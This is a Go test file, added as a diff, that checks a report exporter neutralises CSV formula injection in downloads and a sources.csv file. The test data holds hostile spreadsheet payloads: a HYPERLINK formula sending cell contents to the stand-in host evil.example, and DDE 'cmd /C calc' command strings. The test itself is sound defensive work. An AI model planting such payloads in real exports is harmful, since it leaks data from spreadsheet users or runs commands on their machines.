@@ -1,0 +1,68 @@
+package report
+
+import (
+	"encoding/base64"
+	"strings"
+	"testing"
+
+	"galley/runner/internal/results"
+	"galley/runner/internal/value"
+)
+
+// TestCSVFormulaInjection is a finding of the outside attack (issue 14,
+// item 7): cells and citation fields that a spreadsheet runs as formulas
+// went as they were into every CSV download and into NAME.sources.csv.
+func TestCSVFormulaInjection(t *testing.T) {
+	payloads := []struct{ in, out string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
+		{"+1+1", "'+1+1"},
+		{"-1+1", "'-1+1"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"-2", "-2"},
+		{"+3.5", "+3.5"},
+		{"-", "'-"},
+		{"plain", "plain"},
+		{"a=b", "a=b"},
+	}
+	for _, p := range payloads {
+		if got := csvText(p.in); got != p.out {
+			t.Errorf("csvText(%q) = %q, want %q", p.in, got, p.out)
+		}
+	}
+	v := &results.View{Name: "v", Columns: []results.Column{{Name: "s", Type: value.String}, {Name: "n", Type: value.Int}}}
+	for _, p := range payloads {
+		v.Rows = append(v.Rows, []any{p.in, -2})
+	}
+	out, err := exportCSV(v, v.Rows, []int{0, 1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	csv := string(out)
+	if !strings.Contains(csv, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-2`) || strings.Contains(csv, "\n=") || strings.Contains(csv, "\n+1") {
+		t.Errorf("download not neutralised:\n%s", csv)
+	}
+	doc := &results.Document{Datasets: []*results.Dataset{{Name: "d", Path: "datasets/d.csv", SHA256: "x",
+		Source: results.Citation{Title: "@SUM(1)", Publisher: "=cmd|' /C calc'!A0", Accessed: "2026-01-01", License: "+x", Note: "-y"}}}}
+	src, err := Sources(doc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{`'@SUM(1)`, `'=cmd|' /C calc'!A0`, `'+x`, `'-y`} {
+		if !strings.Contains(string(src), want) {
+			t.Errorf("sources.csv lacks %q:\n%s", want, src)
+		}
+	}
+	// The download travels base64 in the page; decode one to be sure it is
+	// the same text.
+	td, err := newTable(v, 1, []int{0, 1}, "", 1, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b64 := strings.TrimPrefix(string(td.CSV), "data:text/csv;charset=utf-8;base64,")
+	dl, err := base64.StdEncoding.DecodeString(b64)
+	if err != nil || string(dl) != csv {
+		t.Errorf("the page's download differs from exportCSV: %v", err)
+	}
+}
